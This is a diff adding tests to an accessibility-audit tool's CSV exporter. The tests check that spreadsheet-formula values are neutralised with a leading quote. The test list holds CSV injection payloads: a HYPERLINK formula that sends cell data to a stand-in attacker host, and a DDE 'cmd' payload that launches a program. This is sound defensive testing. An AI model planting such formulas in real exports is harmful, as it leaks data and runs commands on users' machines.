@@ -147,3 +147,38 @@ def test_write_text_is_atomic_and_keeps_the_mode(tmp_path):
     os.chmod(path, 0o640)
     write_text(path, "two\n")
     assert path.read_text() == "two\n" and (path.stat().st_mode & 0o777) == 0o640
+
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+            "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]
+
+
+def test_csv_cells_from_audited_pages_are_never_formulas(tmp_path):
+    """OWASP CSV injection: a page title, an element's HTML or a selector starting with a formula
+    character is written with a leading single quote, so a spreadsheet shows it as text."""
+    from audits.analysis.fingerprint import finding_fingerprint
+    from audits.store import PageRecord, open_store
+    from helpers import violation
+
+    s = open_store(tmp_path / "f.db")
+    run = s.create_run(site="=Council", start_url="https://x.example/", tool_version="0", axe_version="4.12.1",
+                       config={}, config_hash="t", max_pages=10)
+    for i, text in enumerate(FORMULAS):
+        s.save_page(run, PageRecord(url=f"https://x.example/{i}", status="audited", title=text,
+                                    violations=[violation("image-alt", html=text)]), fingerprint=finding_fingerprint)
+    s.finish_run(run, "complete")
+    rows = list(csv.DictReader(io.StringIO(export_csv(s, run), newline="")))
+    s.close()
+    assert len(rows) == len(FORMULAS)
+    assert {r["site"] for r in rows} == {"'=Council"}
+    assert sorted(r["page_title"] for r in rows) == sorted("'" + t for t in FORMULAS)
+    assert sorted(r["html"] for r in rows) == sorted("'" + t for t in FORMULAS)
+    assert all(r["page_url"].startswith("https://") and r["rule"] == "image-alt" for r in rows)  # the rest untouched
+
+
+def test_csv_keeps_ordinary_text_as_it_is():
+    from reports.export import csv_cell
+
+    for text in ["Home - Council", "<img src=x>", "a=b", "1.1.1", "", "'quoted"]:
+        assert csv_cell(text) == text
+    assert csv_cell(3) == 3 and csv_cell(None) is None
